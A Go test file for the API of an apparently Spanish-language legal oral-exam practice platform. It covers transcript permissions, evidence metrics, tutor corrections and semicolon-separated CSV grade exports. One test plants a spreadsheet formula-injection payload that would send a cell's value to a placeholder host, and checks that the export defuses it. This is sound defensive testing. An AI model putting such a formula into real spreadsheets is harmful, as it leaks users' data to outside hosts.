package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

type evidenceResp struct {
	Evidence *struct {
		HasTranscript bool `json:"hasTranscript"`
		Greeting      bool `json:"greeting"`
		Closing       bool `json:"closing"`
		Overall       struct {
			Words     int `json:"words"`
			Citations []struct {
				Norm    string `json:"norm"`
				Article int    `json:"article"`
			} `json:"citations"`
			Fillers map[string]int `json:"fillers"`
			Bases   struct {
				Matched []struct{ Norm string } `json:"matched"`
				Missing []struct{ Norm string } `json:"missing"`
			} `json:"bases"`
		} `json:"overall"`
		Phases []struct {
			Kind          string `json:"kind"`
			HasTranscript bool   `json:"hasTranscript"`
			Words         int    `json:"words"`
			LongPauses    []any  `json:"longPauses"`
		} `json:"phases"`
		KeyPoints []struct {
			Text    string `json:"text"`
			Covered bool   `json:"covered"`
		} `json:"keyPoints"`
	} `json:"evidence"`
	Recordings []struct {
		ID         string `json:"id"`
		Transcript *struct {
			Source string `json:"source"`
			Text   string `json:"text"`
		} `json:"transcript"`
	} `json:"recordings"`
}

func transcriptBody(source, text string) map[string]any {
	return map[string]any{"source": source, "language": "es-EC", "segments": []map[string]any{{"startMs": 0, "endMs": 30000, "text": text}}}
}

func TestAuthorizationFeedback(t *testing.T) {
	t.Parallel()
	ownerOrTutor := map[string]int{guest: 401, studentNoGrp: 404, studentInGrp: 200, tutor: 403, otherTutor: 404}
	runScenarios(t, func(t *testing.T) *env { return newEnv(t) }, []scenario{
		// The tutor may correct, not write the live transcript.
		{method: "PUT", path: "/api/attempts/{attempt}/recordings/{rec}/transcript", fixture: attemptFixture,
			body: func(*env) any { return transcriptBody("browser", "Buenos días") }, want: ownerOrTutor},
		{method: "PUT", path: "/api/attempts/{attempt}/recordings/{rec}/transcript", fixture: attemptFixture,
			body: func(*env) any { return transcriptBody("edited", "Buenos días") },
			want: map[string]int{guest: 401, studentNoGrp: 404, studentInGrp: 200, tutor: 200, otherTutor: 404}},
		// The other tutor has no groups: nothing to report on.
		{method: "GET", path: "/api/admin/reports", want: map[string]int{guest: 401, studentNoGrp: 403, studentInGrp: 403, tutor: 200, otherTutor: 404}},
		{method: "GET", path: "/api/admin/reports/export", want: map[string]int{guest: 401, studentNoGrp: 403, studentInGrp: 403, tutor: 200, otherTutor: 404}},
		{method: "GET", path: "/api/admin/reports/export?by=area", want: map[string]int{guest: 401, studentNoGrp: 403, studentInGrp: 403, tutor: 200, otherTutor: 404}},
		{method: "GET", path: "/api/admin/reports/export?by=nada", want: map[string]int{guest: 401, studentNoGrp: 403, studentInGrp: 403, tutor: 400, otherTutor: 404}},
		{method: "GET", path: "/api/admin/reports?group=" + template.group.ID, want: map[string]int{guest: 401, studentNoGrp: 403, studentInGrp: 403, tutor: 200, otherTutor: 404}},
	})
}

func TestEvidenceFollowsTranscriptsAndCorrections(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ids := attemptFixture(e)
	base := "/api/attempts/" + ids["attempt"]
	a := e.mustAttempt(studentInGrp, "GET", base, nil, 200)
	if res := e.do(studentInGrp, "POST", base+"/recordings/"+recID+"/complete",
		map[string]any{"chunks": 1, "durationMs": 30000, "levels": append(make([]float64, 20), 0.5)}); res.Code != 200 {
		t.Fatalf("complete = %d %s", res.Code, res.Body)
	}
	live := "Buenos días, señores miembros del tribunal. Eh, según el artículo 76 de la Constitución, eh, procede la acción."
	if res := e.do(studentInGrp, "PUT", base+"/recordings/"+recID+"/transcript", transcriptBody("browser", live)); res.Code != 200 {
		t.Fatalf("transcript = %d %s", res.Code, res.Body)
	}
	// No evidence while the attempt is in progress (the case is not revealed yet).
	if got := decode[evidenceResp](t, e.do(studentInGrp, "GET", base, nil)); got.Evidence != nil {
		t.Fatal("evidence shown before the end")
	}
	e.finish(studentInGrp, a, 3)
	got := decode[evidenceResp](t, e.do(studentInGrp, "GET", base, nil))
	ev := got.Evidence
	if ev == nil || !ev.HasTranscript || !ev.Greeting || ev.Overall.Fillers["eh"] != 2 || len(ev.Overall.Citations) != 1 ||
		ev.Overall.Citations[0].Norm != "Constitución" || ev.Overall.Citations[0].Article != 76 {
		t.Fatalf("evidence = %+v", ev)
	}
	if len(ev.Phases) == 0 || ev.Phases[0].Kind != "presentation" || len(ev.Phases[0].LongPauses) != 1 {
		t.Fatalf("phases = %+v (20 silent samples of 200 ms make one long pause)", ev.Phases)
	}
	if got.Recordings[0].Transcript == nil || got.Recordings[0].Transcript.Source != "browser" {
		t.Fatalf("recording transcript = %+v", got.Recordings[0].Transcript)
	}
	matchedBefore := len(ev.Overall.Bases.Matched)
	// The tutor corrects the transcript; the measures are recomputed.
	fixed := live + " También el artículo 88 de la Constitución. Muchas gracias por su atención."
	if res := e.do(tutor, "PUT", base+"/recordings/"+recID+"/transcript", transcriptBody("edited", fixed)); res.Code != 200 {
		t.Fatalf("tutor correction = %d %s", res.Code, res.Body)
	}
	got = decode[evidenceResp](t, e.do(tutor, "GET", base, nil))
	ov := got.Evidence.Overall
	if len(ov.Citations) != 2 || !got.Evidence.Closing || got.Recordings[0].Transcript.Source != "edited" ||
		len(ov.Bases.Matched)+len(ov.Bases.Missing) < matchedBefore {
		t.Fatalf("after correction: %+v", got.Evidence.Overall)
	}
	// A later live transcript does not overwrite the correction.
	e.do(studentInGrp, "PUT", base+"/recordings/"+recID+"/transcript", transcriptBody("browser", "otra cosa"))
	if got := decode[evidenceResp](t, e.do(studentInGrp, "GET", base, nil)); got.Recordings[0].Transcript.Source != "edited" {
		t.Fatal("live transcript replaced a correction")
	}
	bad := map[string]any{"source": "edited", "segments": []map[string]any{{"startMs": 500, "endMs": 100, "text": "x"}}}
	if res := e.do(studentInGrp, "PUT", base+"/recordings/"+recID+"/transcript", bad); res.Code != 400 {
		t.Fatalf("bad times = %d", res.Code)
	}
}

func TestReportsAndGradesExport(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	a := e.finish(studentInGrp, e.start(studentInGrp, "simulacro"), 3)
	e.mustAttempt(tutor, "POST", "/api/attempts/"+a.ID+"/grade", map[string]any{"levels": levelsAll(a, 4), "comments": "Análisis sólido; mejore la conclusión."}, 200)
	b := e.finish(studentInGrp, e.start(studentInGrp, "entrenamiento"), 2)
	_ = b
	rep := decode[struct {
		Report struct {
			Students    int      `json:"students"`
			Attempts    int      `json:"attempts"`
			Finished    int      `json:"finished"`
			Graded      int      `json:"graded"`
			PassRate    *float64 `json:"passRate"`
			ByCriterion []struct {
				ID           string  `json:"id"`
				AverageLevel float64 `json:"averageLevel"`
			} `json:"byCriterion"`
			Weeks    []struct{ Attempts int } `json:"weeks"`
			Inactive []struct{ Email string } `json:"inactive"`
		} `json:"report"`
	}](t, e.do(tutor, "GET", "/api/admin/reports", nil))
	r := rep.Report
	// One attempt graded 4 everywhere (10.0, pass), one self-assessed at 2 (5.0, fail).
	if r.Students != 1 || r.Attempts != 2 || r.Finished != 2 || r.Graded != 1 || r.PassRate == nil || *r.PassRate != 0.5 ||
		len(r.ByCriterion) != 10 || r.ByCriterion[0].AverageLevel != 3 || len(r.Weeks) == 0 || len(r.Inactive) != 0 {
		t.Fatalf("report = %+v", r)
	}
	// A student who never practised shows up as inactive.
	fresh := newEnv(t)
	inactive := decode[struct {
		Report struct {
			Inactive []struct {
				Email        string  `json:"email"`
				LastActivity *string `json:"lastActivity"`
			} `json:"inactive"`
		} `json:"report"`
	}](t, fresh.do(tutor, "GET", "/api/admin/reports", nil))
	if len(inactive.Report.Inactive) != 1 || inactive.Report.Inactive[0].Email != "con.grupo@utpl.edu.ec" || inactive.Report.Inactive[0].LastActivity != nil {
		t.Fatalf("inactive = %+v", inactive.Report.Inactive)
	}
	// A comment a spreadsheet would run as a formula.
	formula := `=HYPERLINK("http://ejemplo.invalid/?x="&A2;"Ver")`
	e.mustAttempt(tutor, "POST", "/api/attempts/"+b.ID+"/grade", map[string]any{"levels": levelsAll(b, 2), "comments": formula}, 200)
	res := e.do(tutor, "GET", "/api/admin/reports/export", nil)
	body := res.Body.Bytes()
	if res.Code != 200 || !bytes.HasPrefix(body, []byte("\ufeff")) || !strings.Contains(res.Header().Get("Content-Type"), "text/csv") {
		t.Fatalf("export = %d %v", res.Code, res.Header())
	}
	// Excel in es-EC separates fields with ";" (its decimal separator is
	// the comma): a comma-separated file would open in one column.
	text := string(bytes.TrimPrefix(body, []byte("\ufeff")))
	cr := csv.NewReader(strings.NewReader(text))
	cr.Comma = ';'
	rows, err := cr.ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("CSV rows = %d, %v", len(rows), err)
	}
	if first, _, _ := strings.Cut(text, "\n"); !strings.HasPrefix(first, "Estudiante;Correo;Fecha;") || strings.Count(first, ";") != len(rows[0])-1 {
		t.Fatalf("header line = %q", first)
	}
	header := strings.Join(rows[0], "|")
	if !strings.Contains(header, "Nota tutor") || !strings.Contains(header, "C1 Problema jurídico y hechos") || !strings.Contains(header, "Área") {
		t.Fatalf("header = %s", header)
	}
	joined := strings.Join(rows[1], "|") + "|" + strings.Join(rows[2], "|")
	if !strings.Contains(joined, "|Análisis sólido; mejore la conclusión.|") || !strings.Contains(joined, "|10,00|") || !strings.Contains(joined, "Simulacro") {
		t.Fatalf("rows = %v", rows[1:])
	}
	if !strings.Contains(joined, "|'"+formula+"|") || strings.Contains(joined, "|"+formula) {
		t.Fatalf("formula not neutralised: %v", rows[1:])
	}
	// The section by area, for the same spreadsheets.
	res = e.do(tutor, "GET", "/api/admin/reports/export?by=area", nil)
	if area := res.Body.String(); res.Code != 200 || !strings.HasPrefix(area, "\ufeffÁrea;Intentos terminados;Nota promedio;") ||
		!strings.Contains(res.Header().Get("Content-Disposition"), "resultados-por-area-") {
		t.Fatalf("export by area = %d %v\n%s", res.Code, res.Header(), area)
	}
}
